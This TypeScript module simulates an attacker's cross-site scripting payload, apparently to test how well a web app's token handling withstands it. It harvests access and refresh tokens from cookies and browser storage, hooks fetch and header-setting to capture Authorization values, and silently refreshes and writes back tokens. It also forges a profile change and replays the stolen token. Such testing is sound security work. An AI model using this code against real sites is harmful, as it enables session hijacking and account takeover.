/**
 * The script of an attacker, as a cross-site scripting hole lets it in. It imports nothing of the page and uses only what
 * every script has: globals, the DOM, and fetch with the browser's cookies.
 */
export interface AttackResult {
  /** The names of cookies that contain no token. */
  readonly otherCookies: readonly string[];
  /** Tokens found in cookies and storage. */
  readonly stored: Tokens;
  /** Tokens seen in requests of the page, and how many requests it saw. */
  readonly intercepted: Tokens & { readonly requests: number };
  /** Tokens got by a refresh. */
  readonly refreshed: Tokens & { readonly status: number };
  /** The status of a change that was sent from within the page. */
  readonly forgedStatus: number;
  /** The status of a request with the stolen token and without cookies, as from another computer. */
  readonly replayStatus: number;
}

export interface Tokens {
  readonly access?: string;
  readonly refresh?: string;
}

export async function attack(): Promise<AttackResult> {
  const stored = readStorage();
  const intercepted = await interceptRequests();
  const refreshed = await refresh(stored);
  const access = refreshed.access ?? intercepted.access ?? stored.access;
  return {
    otherCookies: document.cookie.split("; ").filter(Boolean).map((cookie) => cookie.split("=")[0]!),
    stored,
    intercepted,
    refreshed,
    forgedStatus: (await sendChange(access)).status,
    replayStatus: (await fetch("/api/profile", { credentials: "omit", headers: bearer(access) })).status,
  };
}

function readStorage(): Tokens {
  return tokensIn([document.cookie, ...Object.values({ ...localStorage }), ...Object.values({ ...sessionStorage })].join("\n"));
}

function tokensIn(text: string): Tokens {
  const [, access] = /"accessToken":"([^"]+)"/.exec(text) ?? [];
  const [, refresh] = /"refreshToken":"([^"]+)"/.exec(text) ?? [];
  return { ...(access && { access }), ...(refresh && { refresh }) };
}

/** Replaces `fetch` and `Headers.prototype.set`, makes the page send a request, and puts the originals back. */
async function interceptRequests(): Promise<AttackResult["intercepted"]> {
  const { fetch: original } = globalThis;
  const { set } = Headers.prototype;
  let result: AttackResult["intercepted"] = { requests: 0 };
  const inspectHeader = (name: string, value: string) => {
    if (/^authorization$/i.test(name)) result = { ...result, access: value.replace(/^\S+ /, "") };
  };
  const done = new Promise<void>((resolve) => {
    setTimeout(resolve, 2_000);
    globalThis.fetch = async (input, init) => {
      const request = new Request(input, init);
      request.headers.forEach((value, name) => inspectHeader(name, value));
      const answer = await original(request);
      result = { ...result, ...tokensIn(await answer.clone().text()), requests: result.requests + 1 };
      setTimeout(resolve, 50);
      return answer;
    };
    Headers.prototype.set = function (name, value) {
      inspectHeader(name, value);
      set.call(this, name, value);
    };
  });
  try {
    document.querySelector<HTMLElement>("[data-testid=reload-sessions]")?.click();
    await done;
    return result;
  } finally {
    globalThis.fetch = original;
    Headers.prototype.set = set;
  }
}

/** Gets new tokens. It writes them back to where the page keeps its own, so that nobody notices. */
async function refresh({ refresh }: Tokens): Promise<AttackResult["refreshed"]> {
  const body = refresh && JSON.stringify({ refreshToken: refresh });
  const answer = await fetch("/auth/refresh", {
    method: "POST",
    ...(body ? { body, credentials: "omit", headers: { "Content-Type": "application/json" } } : { headers: await csrf() }),
  });
  const tokens = tokensIn(await answer.text());
  for (const key of tokens.refresh ? Object.keys(localStorage) : []) {
    const kept = localStorage.getItem(key)!;
    const old = tokensIn(kept);
    if (!old.refresh || !old.access) continue;
    localStorage.setItem(key, kept.replace(old.refresh, tokens.refresh!).replace(old.access, tokens.access!));
  }
  return { ...tokens, status: answer.status };
}

/** Sends a change of the profile that changes nothing: a member that is not named keeps its value. */
async function sendChange(access: string | undefined): Promise<Response> {
  const headers = { "Content-Type": "application/json", ...(access ? bearer(access) : await csrf()) };
  return fetch("/api/profile", { method: "POST", headers, body: "{}" });
}

async function csrf(): Promise<Record<string, string>> {
  const answer = (await (await fetch("/auth/session")).json()) as { csrf?: { header: string; token: string } };
  return answer.csrf ? { [answer.csrf.header]: answer.csrf.token } : {};
}

function bearer(access: string | undefined): Record<string, string> {
  return access ? { Authorization: `JWT ${access}` } : {};
}
